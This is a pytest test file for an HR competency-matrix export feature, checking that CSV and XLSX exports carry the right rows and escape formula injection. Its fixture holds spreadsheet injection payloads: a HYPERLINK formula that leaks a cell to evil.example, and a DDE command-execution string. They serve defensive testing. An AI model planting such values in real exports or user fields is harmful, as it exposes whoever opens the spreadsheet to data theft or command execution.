"""The HR skill-gap matrix exports: CSV and XLSX with the matrix's rows, formula text escaped."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from competencies.services.matrix_export import ExportTable, write_csv, write_xlsx
from tests.competencies.gap_world import set_level

EVIL_NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)")


# --- exports -----------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def read_xlsx(response) -> list[list[object]]:
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    sheet = workbook.worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # nothing becomes a formula
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    workbook.close()
    return rows


@pytest.fixture
def evil_officers(world, create_user):
    for n, name in enumerate(EVIL_NAMES):
        user = create_user(
            f"evil{n}@customs.example",
            unit=world.north_office,
            position=world.position,
            full_name=name,
        )
        set_level(user, "P-STD", 1, world)
    return EVIL_NAMES


def test_csv_export_has_the_rows_and_escapes_formulas(world, client, login_as, evil_officers):
    set_level(world.officer, "P-STD", 3, world)
    login_as(world.hr_north)
    rows = read_csv(client.get("/matrix/export.csv?view=officers"))
    header = rows[0]
    assert header[:4] == ["Officer", "Service number", "Unit", "Position"]
    assert {"P-STD level", "P-STD required", "P-STD gap"} <= set(header)
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert set(by_name) == {"Amina Northport", *("'" + name for name in EVIL_NAMES)}
    amina = by_name["Amina Northport"]
    assert (amina["P-STD level"], amina["P-STD required"], amina["P-STD gap"]) == ("3", "2", "0")
    assert by_name["'@SUM(1)"]["P-STD gap"] == "1"

    standards = world.competencies["P-STD"].id
    below = read_csv(
        client.get(f"/matrix/export.csv?view=cell&competency={standards}&status=below")
    )
    assert sorted(row[0] for row in below[1:]) == sorted("'" + name for name in EVIL_NAMES)

    units = read_csv(client.get("/matrix/export.csv?view=units"))
    assert units[1][:3] == ["Northern Region", "R-NORTH", "whole unit"]
    rollup = read_csv(client.get("/matrix/export.csv?view=rollup"))
    assert rollup[-1][0] == "All"
    readiness = read_csv(client.get("/matrix/export.csv?view=readiness"))
    assert readiness[0][:3] == ["Principle code", "Principle", "Required posts"]
    assert client.get("/matrix/export.csv?view=nonsense").status_code == 404


def test_xlsx_export_has_the_rows_and_escapes_formulas(world, client, login_as, evil_officers):
    login_as(world.admin)
    rows = read_xlsx(client.get("/matrix/export.xlsx?view=officers"))
    names = {row[0] for row in rows[1:]}
    assert names == {"Amina Northport", "Sipho Southborder", *("'" + n for n in EVIL_NAMES)}
    amina = dict(zip(rows[0], next(r for r in rows if r[0] == "Amina Northport"), strict=True))
    assert (amina["P-STD level"], amina["P-STD required"], amina["P-STD gap"]) == (0, 2, 2)
    cell = read_xlsx(client.get("/matrix/export.xlsx?view=cell&status=below"))
    assert "'=HYPERLINK" in "".join(str(row[0]) for row in cell)


def test_writers_escape_every_cell_and_keep_numbers():
    table = ExportTable(
        "Officers",
        ["Officer", "-Gap"],
        [["\x01=EVIL()", -2], ["\t=1+1", 0], ["'=quoted", 1], [None, 2.5], ["Plain", 3]],
    )
    rows = list(csv.reader(io.StringIO(write_csv(table))))
    assert rows == [
        ["Officer", "'-Gap"],
        ["\x01=EVIL()", "-2"],  # the control character hides nothing from a spreadsheet
        ["'\t=1+1", "0"],
        ["''=quoted", "1"],
        ["", "2.5"],
        ["Plain", "3"],
    ]
    workbook = load_workbook(io.BytesIO(write_xlsx(table)))
    values = [[cell.value for cell in row] for row in workbook.active.iter_rows()]
    assert values[1] == ["'=EVIL()", -2]  # dropped for XML first, then escaped
    assert values[2][0] == "'\t=1+1" and values[4] == [None, 2.5]
